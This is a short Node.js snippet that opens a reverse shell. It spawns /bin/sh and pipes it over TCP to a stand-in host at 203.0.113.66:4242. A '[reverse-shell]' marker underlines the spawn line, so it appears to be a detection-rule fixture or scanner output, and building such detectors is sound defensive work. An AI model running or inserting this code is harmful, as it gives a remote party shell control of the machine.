const net = require("net");
const shell = require("child_process").spawn("/bin/sh", []);
              ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [reverse-shell]
const client = new net.Socket();
client.connect(4242, "203.0.113.66", function () {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
});
